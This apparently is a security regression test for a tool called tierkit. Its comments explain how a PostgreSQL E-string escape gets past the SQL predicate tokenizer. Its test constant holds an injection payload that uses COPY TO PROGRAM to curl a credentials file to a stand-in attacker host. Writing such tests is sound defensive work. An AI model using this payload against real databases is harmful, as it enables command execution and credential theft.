// attack4: contract/sql-predicate.ts reads `'\'` as a whole literal, but an E'' string (the tokenizer
// takes the `E` for a column name) treats `\'` as an escaped quote. So the predicate below is, to
// tierkit, `note = E <literal> <> <literal>`; to PostgreSQL, `note = E'…'` followed by `) ; COPY …
// TO PROGRAM …; --`. The scrub (and sanitize) runs it through pg_temp.tk_scrub_delete's
// EXECUTE format('DELETE FROM %s WHERE (%s)') as the throwaway server's SUPERUSER, in the golden
// dump pod that holds the prod read credential: a shell command of the PR author's choosing.
// Checked by hand on PostgreSQL 15 with scrubSql()'s output and the function from
// constructs/lifecycle/scripts.ts: the COPY ran (`id` written by the server process).
import { describe, expect, it } from 'vitest';
import { predicateProblem } from '../../contract/sql-predicate';
import { scrubIssues, scrubSql } from '../../constructs/scrub';

const PRED = "note = E'\\' <> ' ) ; COPY (SELECT 1) TO PROGRAM $$curl -d @/var/run/secrets/tierkit/creds evil.example$$ ; --'";

describe('attack4: an E-string escape smuggles statements through deleteWhere', () => {
  it('predicateProblem refuses the E-string predicate', () => {
    expect(predicateProblem(PRED)).toBeDefined();
  });

  it('the scrub validation refuses it (today the SQL below is rendered for the superuser)', () => {
    expect(scrubSql([{ table: 'llx_user', deleteWhere: PRED } as never])).toContain('COPY (SELECT 1) TO PROGRAM');
    expect(scrubIssues('App/erp', 'llx_', [{ table: 'llx_user', deleteWhere: PRED } as never]).length).toBeGreaterThan(0);
  });
});
